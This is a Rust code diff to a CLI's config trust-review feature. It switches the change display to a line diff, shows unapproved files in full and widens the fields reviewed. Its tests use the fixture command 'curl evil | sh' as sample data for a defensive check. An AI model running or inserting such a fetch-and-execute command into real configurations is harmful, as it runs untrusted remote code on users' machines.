@@ -195,14 +195,18 @@ fn trust(ctx: &Context, revoke: bool, show: bool) -> Result<i32, CliError> {
     match (&state, &before) {
         (Approval::Approved, _) => outln!("  you approved it as it is now"),
         (Approval::Changed, Some(old)) => {
-            outln!(
-                "  changed since your last approval (lines removed -, added +; order not compared):"
-            );
+            outln!("  changed since your last approval (lines removed -, added +):");
             for line in changed_lines(old, &content) {
                 outln!("    {line}");
             }
         }
-        _ => outln!("  you never approved it"),
+        _ => {
+            // Nothing to compare with: all of it is new to the user.
+            outln!("  you never approved it; all of it:");
+            for line in whole(&content) {
+                outln!("    | {line}");
+            }
+        }
     }
     if show {
         if state != Approval::Approved {
@@ -220,55 +224,72 @@ fn trust(ctx: &Context, revoke: bool, show: bool) -> Result<i32, CliError> {
     Ok(EXIT_OK)
 }
 
-/// The most changed lines `grove config trust` lists.
+/// The most changed lines `grove config trust` lists, and the most lines
+/// of a file it shows whole.
 const MAX_CHANGED_LINES: usize = 200;
 
+/// The most lines a side may have for the line diff (its table is the
+/// product of both sides).
+const MAX_DIFF_LINES: usize = 2_000;
+
+/// `text`'s lines, at most [`MAX_CHANGED_LINES`] of them, then how many
+/// more there are.
+fn whole(text: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(text);
+    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
+    if lines.len() > MAX_CHANGED_LINES {
+        let more = lines.len() - MAX_CHANGED_LINES;
+        lines.truncate(MAX_CHANGED_LINES);
+        lines.push(format!("… and {more} more lines: read the file"));
+    }
+    lines
+}
+
 /// The lines of `old` that `new` lacks (`- line`) and the lines `new`
-/// adds (`+ line`), each counted as often as it occurs: a config is a set
-/// of settings, so moved lines are no change and a line diff's alignment
-/// would add nothing a reviewer needs. A line inside a table is shown
-/// after its `[table]` header; blank lines are left out.
+/// adds (`+ line`), in file order: a longest-common-subsequence line diff,
+/// so that a reordered array (`["echo hi", "curl … | sh"]` swapped) or a
+/// re-indented script shows, which a comparison of line sets would hide.
+/// Never empty for contents that differ: when only line endings or
+/// trailing blanks changed, it says so.
 fn changed_lines(old: &[u8], new: &[u8]) -> Vec<String> {
-    use std::collections::HashMap;
     let (old, new) = (String::from_utf8_lossy(old), String::from_utf8_lossy(new));
-    // Each line under a `[table]` header is named with it, so that a
-    // changed `command = ...` says whose command it is.
-    let lines = |text: &'_ str| -> Vec<String> {
-        let mut table = String::new();
-        let mut out = Vec::new();
-        for line in text.lines().map(str::trim_end) {
-            let bare = line.trim_start();
-            if bare.is_empty() {
-                continue;
-            }
-            if bare.starts_with('[') {
-                table = bare.to_string();
-                out.push(table.clone());
-            } else if table.is_empty() {
-                out.push(line.to_string());
+    let a: Vec<&str> = old.lines().collect();
+    let b: Vec<&str> = new.lines().collect();
+    if a.len() > MAX_DIFF_LINES || b.len() > MAX_DIFF_LINES {
+        return vec![format!(
+            "(too long to compare here: {} lines before, {} now; read it in full)",
+            a.len(),
+            b.len()
+        )];
+    }
+    // lcs[i][j]: the longest common subsequence of a[i..] and b[j..].
+    let mut lcs = vec![vec![0u32; b.len() + 1]; a.len() + 1];
+    for i in (0..a.len()).rev() {
+        for j in (0..b.len()).rev() {
+            lcs[i][j] = if a[i] == b[j] {
+                lcs[i + 1][j + 1] + 1
             } else {
-                out.push(format!("{table} {bare}"));
-            }
+                lcs[i + 1][j].max(lcs[i][j + 1])
+            };
         }
-        out
-    };
-    let (old, new) = (lines(&old), lines(&new));
-    let unmatched = |from: &[String], against: &[String], sign: char| {
-        let mut counts: HashMap<&str, usize> = HashMap::new();
-        for line in against {
-            *counts.entry(line).or_default() += 1;
+    }
+    let mut changed = Vec::new();
+    let (mut i, mut j) = (0, 0);
+    while i < a.len() || j < b.len() {
+        if i < a.len() && j < b.len() && a[i] == b[j] {
+            (i, j) = (i + 1, j + 1);
+        } else if i < a.len() && (j == b.len() || lcs[i + 1][j] >= lcs[i][j + 1]) {
+            // Removals first, as a diff reads.
+            changed.push(format!("- {}", a[i]));
+            i += 1;
+        } else {
+            changed.push(format!("+ {}", b[j]));
+            j += 1;
         }
-        let mut out = Vec::new();
-        for line in from {
-            match counts.get_mut(line.as_str()) {
-                Some(n) if *n > 0 => *n -= 1,
-                _ => out.push(format!("{sign} {line}")),
-            }
-        }
-        out
-    };
-    let mut changed = unmatched(&old, &new, '-');
-    changed.extend(unmatched(&new, &old, '+'));
+    }
+    if changed.is_empty() && old != new {
+        changed.push("(only line endings or blanks at line ends changed)".to_string());
+    }
     if changed.len() > MAX_CHANGED_LINES {
         let more = changed.len() - MAX_CHANGED_LINES;
         changed.truncate(MAX_CHANGED_LINES);
@@ -294,18 +315,32 @@ fn configured_commands(content: &[u8]) -> Vec<String> {
     for section in ["engines", "mcp_servers"] {
         if let Some(toml::Value::Table(entries)) = table.get(section) {
             for (name, entry) in entries {
-                for field in ["command", "env", "url", "headers"] {
+                // Everything that becomes part of what runs, or how much
+                // it may do unasked.
+                for field in [
+                    "command",
+                    "model_args",
+                    "mcp_args",
+                    "env",
+                    "permissions",
+                    "models",
+                    "url",
+                    "headers",
+                ] {
                     show(format!("{section}.{name}.{field}"), entry.get(field));
                 }
             }
         }
     }
-    show(
-        "setup.run".into(),
-        table.get("setup").and_then(|s| s.get("run")),
-    );
-    show("notify".into(), table.get("notify"));
-    show("personas_dir".into(), table.get("personas_dir"));
+    for key in ["run", "copy"] {
+        show(
+            format!("setup.{key}"),
+            table.get("setup").and_then(|s| s.get(key)),
+        );
+    }
+    for key in ["default_engine", "mcp_inject", "notify", "personas_dir"] {
+        show(key.into(), table.get(key));
+    }
     lines
 }
 
@@ -313,28 +348,37 @@ fn configured_commands(content: &[u8]) -> Vec<String> {
 mod tests {
     use super::changed_lines;
 
+    fn lines(v: &[&str]) -> Vec<String> {
+        v.iter().map(|s| s.to_string()).collect()
+    }
+
     #[test]
-    fn changed_lines_lists_what_went_and_came_ignoring_order_and_blanks() {
-        let old = b"max_parallel = 4\n\n[engines.a]\ncommand = [\"safe\"]\n";
-        let new = b"[engines.a]\ncommand = [\"curl evil | sh\"]\n\n\n[other]\n";
-        let new = [b"max_parallel = 4\n".as_slice(), new].concat();
-        let new = new.as_slice();
+    fn changed_lines_follow_the_file_in_order() {
+        let old = b"max_parallel = 4\n[engines.a]\ncommand = [\"safe\"]\n";
+        let new = b"max_parallel = 4\n[engines.a]\ncommand = [\"curl evil | sh\"]\n[other]\n";
         assert_eq!(
             changed_lines(old, new),
-            vec![
-                "- [engines.a] command = [\"safe\"]".to_string(),
-                "+ [engines.a] command = [\"curl evil | sh\"]".to_string(),
-                "+ [other]".to_string(),
-            ]
+            lines(&[
+                "- command = [\"safe\"]",
+                "+ command = [\"curl evil | sh\"]",
+                "+ [other]"
+            ])
         );
         assert!(changed_lines(new, new).is_empty());
-        // A key moved into a table changes its meaning; a repeated line
-        // counts as often as it occurs.
-        assert_eq!(
-            changed_lines(b"k = 1\n[t]\n", b"[t]\nk = 1\n"),
-            vec!["- k = 1".to_string(), "+ [t] k = 1".to_string()]
-        );
-        assert_eq!(changed_lines(b"x\n", b"x\nx\n"), vec!["+ x".to_string()]);
+    }
+
+    #[test]
+    fn a_reordered_array_and_a_reindented_script_show() {
+        let old = b"command = [\n  \"echo hi\",\n  \"curl evil | sh\",\n]\n";
+        let new = b"command = [\n  \"curl evil | sh\",\n  \"echo hi\",\n]\n";
+        let changed = changed_lines(old, new);
+        assert_eq!(changed.len(), 2, "{changed:?}");
+        assert!(changed.iter().any(|l| l.starts_with('+')), "{changed:?}");
+        let old = b"run = \"\"\"\nif x:\n    y\n\"\"\"\n";
+        let new = b"run = \"\"\"\nif x:\ny\n\"\"\"\n";
+        assert_eq!(changed_lines(old, new), lines(&["-     y", "+ y"]));
+        // Different bytes are never an empty list.
+        assert_eq!(changed_lines(b"a = 1\n", b"a = 1\r\n").len(), 1);
     }
 
     #[test]
@@ -343,5 +387,7 @@ mod tests {
         let changed = changed_lines(b"", new.as_bytes());
         assert_eq!(changed.len(), super::MAX_CHANGED_LINES + 1);
         assert!(changed.last().unwrap().contains("300 more"));
+        let huge: String = (0..3000).map(|i| format!("k{i} = {i}\n")).collect();
+        assert!(changed_lines(b"a", huge.as_bytes())[0].contains("too long"));
     }
 }
